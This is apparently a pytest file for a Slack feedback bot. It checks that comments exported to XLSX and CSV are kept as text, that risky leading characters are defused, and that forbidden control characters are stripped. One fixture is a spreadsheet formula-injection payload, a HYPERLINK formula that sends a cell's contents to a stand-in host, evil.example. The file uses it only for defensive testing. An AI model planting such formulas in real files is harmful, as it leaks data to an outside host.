"""What the bot writes into files (issue #12, defects 2 and 5): a comment that looks like a
formula stays text in XLSX and is defused in CSV; a character XML 1.0 forbids neither breaks
an export nor gets stored. Through the real CLI and the real Slack button."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlmodel import select
from typer.testing import CliRunner

from bot.cli import cli
from storage.db import make_engine, session_scope, upgrade
from storage.feedback import QUESTION_KEYS, AnswerInput, respondent_key, save_answer
from storage.importers.contacts import load_contacts
from storage.importers.tourplan import parse_tourplan
from storage.models import Deadline, FeedbackAnswer
from storage.tourplan import get_performance
from tests.conftest import ADMIN, TEAM
from tests.feedback_helpers import KONTAKT, SAMPLE, form_state, load_world
from tests.helpers import seeded_workspace

NOW = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
SECRET = "s" * 40
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")'
# Each gets OWASP's leading ' in CSV; in XLSX they are text as written.
RISKY = ["-5 grader i salen", "+47 99 99 99 99", "@SUM(A1)", "\tinnrykk", "\rretur"]
PLAY = "AS-H26-005"  # Brødrene Løvehjerte, Ås ungdomsskole, 24 November


def store(engine: Engine, performance_id: int, user: str, **fields: Any) -> None:
    """An answer as it may already be stored (written before this release, or by any path)."""
    with session_scope(engine, write=True) as session:
        performance = get_performance(session=session, team_id=TEAM, performance_id=performance_id)
        assert performance is not None
        save_answer(
            session=session,
            team_id=TEAM,
            user_id=user,
            key=respondent_key(SECRET, TEAM, user),
            performance=performance,
            answer=AnswerInput(
                performance_id=performance_id,
                ratings=dict.fromkeys(QUESTION_KEYS, 4),
                comments=fields.get("comments", {}),
                pupil_hosts=None,
                pupils_attended=120,
                free_comment=fields.get("free"),
                anonymous=False,
            ),
            now=NOW,
        )


def stored_world(engine: Engine) -> None:
    ids = load_world(engine, TEAM, NOW)
    store(engine, ids[PLAY], "U0FORMEL", free=FORMULA, comments={"artistic": RISKY[0]})
    store(engine, ids[PLAY], "U0KONTROLL", free="Bra\x0b forestilling")
    for n, text in enumerate(RISKY[1:]):
        store(engine, ids[PLAY], f"U0RISK{n}", free=text)


def run_cli(args: list[str], db_url: str) -> Any:
    return CliRunner().invoke(
        cli,
        args,
        env={"DATABASE_URL": db_url, "DKS_SECRET_KEY": SECRET, "SLACK_BOT_TOKEN": ""},
        catch_exceptions=False,
    )


def check_xlsx(content: bytes) -> None:
    """Every comment is a string cell holding exactly what was written (less what XML 1.0
    forbids); the numbers are numbers; no cell of the sheet is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content))["Tilbakemeldinger"]
    rows = list(sheet.iter_rows())
    header = {cell.value: i for i, cell in enumerate(rows[0])}
    free = [row[header["Fritekst"]] for row in rows[1:]]
    assert {c.data_type for c in free} == {"s"}
    # XML reads a lone carriage return as a line end (XML 1.0, 2.11): «\rretur» is «\nretur».
    written = {FORMULA, "Bra forestilling", *(t.replace("\r", "\n") for t in RISKY[1:])}
    assert {c.value for c in free} == written
    artistic = [row[header["Kunstnerisk kvalitet – kommentar"]] for row in rows[1:]]
    assert RISKY[0] in {c.value for c in artistic}
    ratings = {row[header["Helhetsinntrykk (1–5)"]].value for row in rows[1:]}
    assert ratings == {4}
    assert {row[header["Antall elever til stede"]].value for row in rows[1:]} == {120}


def check_csv(content: bytes) -> None:
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    header = {name: i for i, name in enumerate(table[0])}
    free = {row[header["Fritekst"]] for row in table[1:]}
    assert free == {"'" + FORMULA, "Bra forestilling", *("'" + text for text in RISKY[1:])}
    artistic = {row[header["Kunstnerisk kvalitet – kommentar"]] for row in table[1:]}
    assert "'" + RISKY[0] in artistic
    # Numbers stay numbers, and what the bot writes itself is left alone.
    assert {row[header["Helhetsinntrykk (1–5)"]] for row in table[1:]} == {"4"}
    assert {row[header["Antall elever til stede"]] for row in table[1:]} == {"120"}
    assert {row[header["Dato"]] for row in table[1:]} == {"24.11.2026"}


def test_the_cli_export_keeps_formulas_as_text_and_survives_control_characters(tmp_path):
    db_url = f"sqlite:///{tmp_path / 'cli.db'}"
    engine = make_engine(db_url)
    upgrade(engine)
    stored_world(engine)
    engine.dispose()

    target = tmp_path / "rapport.xlsx"
    done = run_cli(
        ["export", "tilbakemeldinger", "--team", TEAM, "--format", "xlsx", "--ut", str(target)],
        db_url,
    )
    assert done.exit_code == 0, done.output
    check_xlsx(target.read_bytes())

    done = run_cli(["export", "tilbakemeldinger", "--team", TEAM], db_url)
    assert done.exit_code == 0, done.output
    check_csv(done.stdout_bytes)


def test_the_slack_export_buttons_send_safe_files(slack, sqlite_engine):
    stored_world(sqlite_engine)
    reply = slack.command("tilbakemelding oppsummering løvehjerte", user=ADMIN)
    actions = next(b for b in reply["blocks"] if b["type"] == "actions")
    fake = slack.fake
    from tests.test_feedback import click

    def sent(suffix: str) -> list[dict[str, Any]]:
        return [
            u
            for u in list(fake.uploads.values())
            if u.get("channel") and str(u.get("filename")).endswith(suffix)
        ]

    excel, csv_button = actions["elements"]
    click(slack, excel, block_id=actions["block_id"], user=ADMIN)
    assert fake.wait_for(lambda: bool(sent(".xlsx"))), "the Excel file never came"
    check_xlsx(sent(".xlsx")[0]["content"])
    click(slack, csv_button, block_id=actions["block_id"], user=ADMIN)
    assert fake.wait_for(lambda: bool(sent(".csv"))), "the CSV file never came"
    check_csv(sent(".csv")[0]["content"])
    assert fake.wait_for(lambda: sum("Filen med 6 svar" in str(r) for _, r in fake.responses) == 2)


# --- on the way in ----------------------------------------------------------------------------


def test_a_submitted_comment_is_stored_without_forbidden_characters(make_driver, engine, clock):
    """On SQLite and PostgreSQL (which refuses NUL in text outright)."""
    from tests.test_feedback import open_prefilled, submit

    ids = load_world(engine, TEAM, clock.now)
    slack = make_driver(engine)
    view = open_prefilled(slack, engine, ids[PLAY], user=KONTAKT)
    state = form_state(
        view, free="Bra\x0b forestilling\x00", comments={"artistic": "Sterk\x1b scene\ufffe"}
    )
    assert submit(slack, view, state, user=KONTAKT)["response_action"] == "update"
    with session_scope(engine) as session:
        [answer] = session.exec(select(FeedbackAnswer)).all()
    assert answer.free_comment == "Bra forestilling"
    assert answer.comment_artistic == "Sterk scene"


def test_a_form_and_the_importers_store_no_forbidden_characters(slack, sqlite_engine):
    from handlers.editing.forms import DATE_BLOCK, TITLE_BLOCK
    from tests.test_editing import latest_view, slash, submit, wait_for_call

    seeded_workspace(sqlite_engine, TEAM)
    before = len(slack.fake.calls_to("views.open"))
    assert slash(slack, "ny frist") == ""
    wait_for_call(slack, "views.open", before)
    ack = submit(
        slack, latest_view(slack), {TITLE_BLOCK: "Søknad\x0b frist\x08", DATE_BLOCK: "2027-01-15"}
    )
    assert ack is None
    with session_scope(sqlite_engine) as session:
        assert session.exec(select(Deadline.title)).one() == "Søknad frist"

    plan = SAMPLE.read_text(encoding="utf-8").replace("Ås ungdomsskole", "Ås\x0b ungdomsskole\x07")
    schools = {row.school for row in parse_tourplan(plan.encode()).rows}
    assert "Ås ungdomsskole" in schools
    assert not any(ch in "".join(schools) for ch in "\x0b\x07")
    contacts = load_contacts(
        b"Skole;Navn;Rolle;E-post\r\n"
        + "Nordby\x0b skole;Kari\x0c Østby;kulturkontakt;k@x.no\r\n".encode()
    )
    [row] = contacts.rows
    assert (row.school, row.values["name"]) == ("Nordby skole", "Kari Østby")
